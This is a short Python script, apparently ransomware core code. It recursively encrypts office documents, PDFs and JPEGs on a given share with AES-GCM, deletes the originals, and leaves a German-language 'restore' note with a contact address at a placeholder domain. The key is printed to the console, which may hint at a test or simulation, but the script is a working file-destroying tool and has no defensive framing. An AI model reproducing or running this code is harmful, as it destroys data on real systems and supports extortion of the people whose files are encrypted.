import os
import sys
from pathlib import Path
from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes

key = get_random_bytes(32)
share = Path(sys.argv[1])
for path in share.rglob("*"):
    if path.suffix.lower() not in {".docx", ".xlsx", ".pdf", ".jpg"}:
        continue
    cipher = AES.new(key, AES.MODE_GCM)
    data, tag = cipher.encrypt_and_digest(path.read_bytes())
    path.with_suffix(path.suffix + ".enc").write_bytes(cipher.nonce + tag + data)
    path.unlink()
(share / "WIEDERHERSTELLEN.txt").write_text("Kontakt: it-sicherheit@beispiel.de")
print(key.hex())
